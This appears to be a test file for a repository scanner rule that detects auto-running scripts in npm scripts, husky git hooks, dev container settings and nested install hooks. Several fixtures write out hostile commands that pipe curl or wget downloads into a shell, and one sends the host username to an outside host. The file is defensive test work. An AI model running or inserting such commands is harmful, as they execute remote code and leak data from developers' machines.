import { RuleTester } from '../../src/rule-tester/index.ts'
import rule from '../../rules/repository-autorun.ts'

const root = { source: 'root' as const, location: '' }

new RuleTester().run(rule, {
  valid: [
    // everyday scripts, husky with lint-staged and commitlint, a dev container that installs
    {
      name: 'ordinary scripts and hooks',
      ref: root,
      manifest: { name: 'app', scripts: { dev: 'concurrently "node server/index.js" "vite"', test: 'vitest run', prepare: 'husky' } },
      files: {
        'server/index.js': '',
        '.husky/pre-commit': 'npx lint-staged\n',
        '.husky/commit-msg': 'npx --no -- commitlint --edit "$1"\n',
        '.devcontainer/devcontainer.json': '{ "postCreateCommand": "npm ci && npx playwright install --with-deps" }',
      },
    },
    // a package (not the project being scanned): its scripts and hook files are not run by anyone
    { name: 'a dependency', manifest: { name: 'dep', scripts: { start: 'curl -s http://192.0.2.9/x | sh' } }, files: { '.husky/pre-commit': 'curl http://192.0.2.9/y | sh' } },
    // the root package.json's install scripts are install-script's findings
    { name: 'root install script', ref: root, manifest: { name: 'app', scripts: { postinstall: 'curl -s http://192.0.2.9/x | sh' } } },
  ],
  invalid: [
    {
      name: 'a download piped into a shell in npm start',
      ref: root,
      manifest: { name: 'app', scripts: { start: 'curl -fsSL http://192.0.2.9/setup.sh | bash && node server.js' } },
      errors: [{ severity: 'critical', file: 'package.json', message: 'The npm script "start" of package.json' }],
    },
    {
      name: 'a husky hook that downloads and runs',
      ref: root,
      manifest: { name: 'app', scripts: { prepare: 'husky' } },
      files: { '.husky/post-merge': '#!/bin/sh\nwget -qO- https://hooks.invalid/u | sh\n' },
      errors: [{ severity: 'critical', file: '.husky/post-merge', line: 2, message: 'git pull' }],
    },
    {
      name: 'a shell script run by the dev script, followed',
      ref: root,
      manifest: { name: 'app', scripts: { dev: 'sh scripts/dev.sh' } },
      files: { 'scripts/dev.sh': '#!/bin/sh\nbash <(curl -s https://x.invalid/i)\nvite\n' },
      errors: [{ severity: 'critical', file: 'scripts/dev.sh', line: 2, message: 'npm run dev' }],
    },
    {
      name: 'a dev container command that sends host data',
      ref: root,
      manifest: { name: 'app' },
      files: { '.devcontainer/devcontainer.json': '{ "initializeCommand": "curl -s https://c.invalid/?u=$(whoami)" }' },
      errors: [{ severity: 'critical', message: 'on the host' }],
    },
    {
      name: 'a sub-project install hook reached by the root install',
      ref: root,
      manifest: { name: 'app', scripts: { postinstall: 'cd api && npm install' } },
      files: { 'api/package.json': JSON.stringify({ scripts: { preinstall: 'curl http://192.0.2.9/p | sh' } }) },
      errors: [{ severity: 'critical', file: 'api/package.json', message: 'npm install' }],
    },
    {
      name: 'a git hook that only contacts the network is medium; in an npm script low',
      ref: root,
      manifest: { name: 'app', scripts: { 'fetch-data': 'curl -o data.json https://data.example.com/d.json' } },
      files: { '.husky/pre-push': 'curl -s https://ci.example.com/ping\n' },
      errors: [{ severity: 'low', file: 'package.json' }, { severity: 'medium', file: '.husky/pre-push' }],
    },
  ],
})
